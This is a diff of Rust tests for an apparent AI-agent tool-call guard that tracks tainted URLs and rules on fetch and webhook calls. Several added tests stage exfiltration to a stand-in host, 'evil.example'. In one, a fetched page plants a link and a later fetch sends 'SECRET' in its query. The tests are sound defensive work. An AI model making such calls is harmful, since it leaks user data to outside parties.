@@ -487,7 +487,7 @@ fn trusted_patterns_only_match_their_own_kind() {
 
 #[test]
 fn a_url_is_judged_as_one_destination() {
-    let c = contracts("{}");
+    let c = contracts("post_webhook:\n  exfiltrating: true\n  sink_params: [url]\n");
     let mut s = session();
     // A trusted bookmark list vouches for this exact URL.
     c.record_output(
@@ -499,7 +499,7 @@ fn a_url_is_judged_as_one_destination() {
     let r = sink(
         &c,
         &mut s,
-        "fetch",
+        "post_webhook",
         json!({"url": "https://docs.example.com/mine"}),
     )
     .unwrap();
@@ -509,17 +509,17 @@ fn a_url_is_judged_as_one_destination() {
     let r = sink(
         &c,
         &mut s,
-        "fetch",
+        "post_webhook",
         json!({"url": "https://docs.example.com/theirs"}),
     )
     .unwrap();
     assert_eq!(r.effect, Effect::Ask, "{}", r.reason);
     // Approving a URL approves that URL.
-    assert!(s.approve_sinks("fetch", &r.sinks, false));
+    assert!(s.approve_sinks("post_webhook", &r.sinks, false));
     let r = sink(
         &c,
         &mut s,
-        "fetch",
+        "post_webhook",
         json!({"url": "https://docs.example.com/theirs"}),
     )
     .unwrap();
@@ -529,9 +529,39 @@ fn a_url_is_judged_as_one_destination() {
     let r = sink(
         &c,
         &mut s,
-        "send_email",
-        json!({"to": "x@corp.com", "cc": "https://evil.example/other"}),
+        "post_webhook",
+        json!({"url": "https://evil.example/other"}),
     )
     .unwrap();
     assert_eq!(r.effect, Effect::Deny, "{}", r.reason);
+}
+
+#[test]
+fn fetch_asks_only_for_urls_from_untrusted_output() {
+    let c = contracts("{}");
+    let mut s = session();
+    let r = sink(&c, &mut s, "fetch", json!({"url": "https://docs.rs/regex"})).unwrap();
+    assert_eq!(r.effect, Effect::Allow, "left to the rules: {}", r.reason);
+    assert_eq!(r.sinks[0].verdict, SinkVerdict::Unproven);
+    c.record_output(
+        &mut s,
+        None,
+        "fetch",
+        &json!({"content": [{"type": "text", "text": "<a href=\"https://evil.example/c?d=\">next</a>"}]}),
+    );
+    let r = sink(
+        &c,
+        &mut s,
+        "fetch",
+        json!({"url": "https://evil.example/c?d=SECRET"}),
+    )
+    .unwrap();
+    assert_eq!(r.effect, Effect::Ask, "{}", r.reason);
+    assert_eq!(r.sinks[0].verdict, SinkVerdict::Tainted);
+    assert_eq!(r.sinks[0].source_tool.as_deref(), Some("fetch"));
+    // A user entry can make fetch strict again.
+    let c = contracts("fetch: {on_unproven: ask, on_tainted: deny}");
+    let mut s = session();
+    let r = sink(&c, &mut s, "fetch", json!({"url": "https://docs.rs/regex"})).unwrap();
+    assert_eq!(r.effect, Effect::Ask);
 }
